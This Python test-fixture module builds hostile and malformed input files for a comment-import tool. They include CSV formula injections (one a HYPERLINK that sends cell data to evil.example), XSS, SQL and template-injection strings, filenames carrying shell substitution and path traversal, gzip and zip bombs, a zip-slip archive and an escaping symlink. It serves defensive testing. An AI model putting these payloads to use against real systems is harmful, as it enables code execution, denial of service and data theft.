"""Files that are broken, or are meant to harm whoever reads them."""

from __future__ import annotations

import gzip
import io
import os
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from sandbox.comments.csv_text import needed, quoted
from sandbox.comments.esuit import HEADER, PREAMBLE_HEADER
from sandbox.comments.exports import Export
from sandbox.comments.formats import CRLF, LF
from sandbox.comments.instagram import RAW_NARROW
from sandbox.comments.packing import zipped
from sandbox.comments.scrapes import Scrape
from sandbox.comments.tiktok import COLUMNS as TIKTOK
from sandbox.comments.world import World
from sandbox.comments.youtube import FULL_COLUMNS

Kind = Literal[
    "empty",
    "header_only",
    "cut",
    "cut_json",
    "unknown",
    "binary",
    "large_comment",
    "formulas",
    "markup",
    "names",
    "gzip_bomb",
    "zip_bomb",
    "zip_slip",
    "broken_rows",
    "broken_text",
    "deep_json",
]
"""
- empty: a file of no bytes, and one of a byte order mark;
- header_only: a header of each format, and no record;
- cut: a file that ends within a quoted field; cut_json: within an item;
- unknown: CSV of something else; binary: a picture called .csv;
- large_comment: a comment of 10 MB;
- formulas, markup: texts and authors that a spreadsheet or a browser would run;
- names: names of files that lead elsewhere, or break what prints them;
- gzip_bomb, zip_bomb: a small file that becomes a gigabyte; zip_slip: an archive with a member ../x.csv;
- broken_rows: records that cannot be read among some that can: too few cells, no number where one belongs, a time of
  the year 1970 or 55555, an item that is no object, one that tells an error;
- broken_text: bytes that are no UTF-8, NUL, a lone surrogate, right-to-left marks;
- deep_json: an item of 100,000 lists in one another.
"""
GIGABYTE = 1 << 30
LARGE = 10_000_000
_BLOCK = 1 << 20
ATTACKS = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"win")',
    "\t=1+1",
    "\r=1+1",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "</textarea><b>bold</b>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "&lt;b&gt; &amp;amp;",
    "' OR 1=1; DROP TABLE comments; --",
)
NAMES = (
    "..csv",
    "...x.csv",
    "line\nbreak.csv",
    "tab\tname.csv",
    "\u202egpj.vsc.csv",
    "<img src=x onerror=alert(1)>.csv",
    "=cmd|calc.csv",
    "-rf *.csv",
    "%2e%2e%2fpasswd.csv",
    "..\\..\\windows.csv",
    "with space and ümlaut 🎬.csv",
    "CON.csv",
    "$(touch pwned).csv",
    "'; DROP TABLE files; --.csv",
    "no ending",
    "deep/er/folder/x.csv",
    "l" * 250 + ".csv",
)
"""Each is a name that a folder can hold; `../x.csv` itself is one of a member of an archive."""


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file and what it consists of. complete: False for one that was cut. records: how many can be read in it."""

    name: str
    content: Callable[[], Iterator[bytes]]
    complete: bool = True
    records: int = 0


def files(world: World, kind: Kind) -> list[HostileFile]:
    """The files of a kind, which are the same every time."""
    return _MAKERS[kind](world)


def esuit(texts: tuple[str, ...], authors: tuple[str, ...] = ("somebody",)) -> bytes:
    """A file of comments with these texts, each by the next of the authors."""
    lines = [needed(HEADER, LF)]
    for number, text in enumerate(texts):
        author = authors[number % len(authors)]
        cells = (
            "https://www.instagram.com/p/DAAAAAAAAAA/",
            "A caption",
            "",
            author,
            text,
            "2026-11-16 12:00:00",
            "1",
        )
        lines.append(needed(cells, LF))
    return "".join(lines).encode()


def _one(name: str, data: bytes, records: int = 0, complete: bool = True) -> list[HostileFile]:
    return [HostileFile(name, lambda: iter([data]), complete, records)]


def _empty(world: World) -> list[HostileFile]:
    return [
        *_one("empty.csv", b""),
        *_one("empty-with-mark.csv", b"\xef\xbb\xbf"),
        *_one("empty.json", b"[]"),
    ]


def _header_only(world: World) -> list[HostileFile]:
    headers = {"esuit": HEADER, "apify_raw": RAW_NARROW, "tiktok": TIKTOK, "youtube_full": FULL_COLUMNS}
    preamble = "\ufeffhttps://www.instagram.com/p/DAAAAAAAAAA\nA caption\n" + quoted(PREAMBLE_HEADER, CRLF)
    found = _one("header-only-esuit_preamble.csv", preamble.encode())
    for name, header in headers.items():
        found += _one(f"header-only-{name}.csv", needed(header, CRLF).encode())
    return found


def _some(world: World, form: Literal["csv", "json"]) -> bytes:
    """An export with long texts: the first TikTok post that has some."""
    posts = [post.number for post in world.posts(0) if post.platform == "tiktok"]
    return b"".join(Export("tiktok", Scrape(1, world.midnight(0), posts, 1.0), form).content(world))


def _cut(world: World) -> list[HostileFile]:
    whole = _some(world, "csv")
    end = whole.index(b'"', len(whole) // 2)
    # Only an odd number of quotes leaves a field open
    while whole[:end].count(b'"') % 2 == 0:
        end = whole.index(b'"', end) + 1
    return _one("cut.csv", whole[: end + 3], complete=False)


def _cut_json(world: World) -> list[HostileFile]:
    whole = _some(world, "json")
    return _one("cut.json", whole[: len(whole) // 2], complete=False)


def _large_comment(world: World) -> list[HostileFile]:
    text = "so long, " * (LARGE // 9) + "bye"
    return _one("large-comment.csv", esuit(("short", text, "short again")), records=3)


def _names(world: World) -> list[HostileFile]:
    return [
        file
        for number, name in enumerate(NAMES)
        for file in _one(name, esuit((f"the file of name {number}",)), records=1)
    ]


def _gzip_bomb(world: World) -> list[HostileFile]:
    # Members of a gzip file follow one another: sixteen times the same one
    member = gzip.compress(esuit(("ha",)) + bytes(GIGABYTE // 16), mtime=0)
    return [HostileFile("bomb.csv.gz", lambda: iter([member] * 16))]


def _zip_bomb(world: World) -> list[HostileFile]:
    return [
        HostileFile(
            "bomb.zip", lambda: zipped("bomb.csv", (bytes(_BLOCK) for _ in range(GIGABYTE // _BLOCK)))
        )
    ]


def _zip_slip(world: World) -> list[HostileFile]:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name in ("../x.csv", "/tmp/x.csv", "..\\x.csv"):  # noqa: S108  (a name in an archive)
            archive.writestr(zipfile.ZipInfo(name), esuit(("out of here",)))
    return _one("slip.zip", held.getvalue())


def _broken_rows(world: World) -> list[HostileFile]:
    good = esuit(("first", "last")).decode().splitlines(keepends=True)
    url = "https://www.instagram.com/p/DAAAAAAAAAA/"
    broken = (
        f"{url},A caption,,too few cells\n",
        f"{url},A caption,,a,likes are no number,2026-11-16 12:00:00,many\n",
        f"{url},A caption,,b,no such time,2026-13-45 99:00:00,1\n",
        "no address,A caption,,c,nowhere,2026-11-16 12:00:00,1\n",
        f"{url},A caption,,d,too many cells,2026-11-16 12:00:00,1,2,3\n",
    )
    csv = "".join((good[0], good[1], *broken, good[2])).encode()
    raw = [needed(RAW_NARROW, CRLF)]
    for number, at in enumerate(("1763689503", "1763689503000000000", "0", "1691000000000000", "")):
        known = {
            "pk": f"1784726370658274{number}",
            "created_at_utc": at,
            "media_id": "3770382866082320400",
            "text": at,
        }
        raw.append(needed([known.get(column, "") for column in RAW_NARROW], CRLF))
    items = (
        b'[{"shortCode":"DAAAAAAAAAA","url":"https://www.instagram.com/p/DAAAAAAAAAA/","caption":"","ownerUsername":"a",'
        b'"text":"good","timestamp":"2026-11-16T12:00:00.000Z","likesCount":1},\n{},\n'
        b'{"url":"https://www.instagram.com/p/DBBBBBBBBBB/","error":"not_found","errorDescription":"No such post"},\n'
        b'null,\n7,\n["a"],\n{"shortCode":7,"url":null,"text":["x"],"timestamp":true,"likesCount":"1e999"}]'
    )
    return [
        *_one("broken-rows.csv", csv, records=2),
        *_one("broken-times.csv", "".join(raw).encode(), records=1),
        *_one("broken-items.json", items, records=1),
    ]


def _broken_text(world: World) -> list[HostileFile]:
    texts = (
        b"caf\xe9 in latin letters",
        b"half of an emoji \xf0\x9f\x98",
        b"NUL \x00 within",
        b"a surrogate \xed\xa0\x80 alone",
        "right \u202eto left\u202c and \u200bnothing\u2066 there\u2069".encode(),
        b"bell \x07 and escape \x1b[31mred\x1b[0m",
    )
    lines = esuit(tuple(f"@{number}@" for number in range(len(texts))))
    for number, text in enumerate(texts):
        lines = lines.replace(f"@{number}@".encode(), text)
    return _one("broken-text.csv", lines, records=len(texts))


def _deep_json(world: World) -> list[HostileFile]:
    depth = 100_000
    return _one("deep.json", b'[{"text":' + b"[" * depth + b"]" * depth + b"}]")


_MAKERS: dict[Kind, Callable[[World], list[HostileFile]]] = {
    "empty": _empty,
    "header_only": _header_only,
    "cut": _cut,
    "cut_json": _cut_json,
    "unknown": lambda world: _one("budget.csv", b"month,amount\nJanuary,5\nFebruary,7\n"),
    "binary": lambda world: _one("picture.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64),
    "large_comment": _large_comment,
    "formulas": lambda world: _one("formulas.csv", esuit(ATTACKS, ATTACKS), records=len(ATTACKS)),
    "markup": lambda world: _one("markup.csv", esuit(MARKUP, MARKUP), records=len(MARKUP)),
    "names": _names,
    "gzip_bomb": _gzip_bomb,
    "zip_bomb": _zip_bomb,
    "zip_slip": _zip_slip,
    "broken_rows": _broken_rows,
    "broken_text": _broken_text,
    "deep_json": _deep_json,
}


def link_out(folder: Path) -> Path:
    """A link in a folder that leads to a file outside it."""
    outside = folder.parent / "outside.csv"
    outside.write_bytes(esuit(("nobody should read this",)))
    link = folder / "link.csv"
    os.symlink(outside, link)  # noqa: PTH211  (as anybody makes one)
    return link
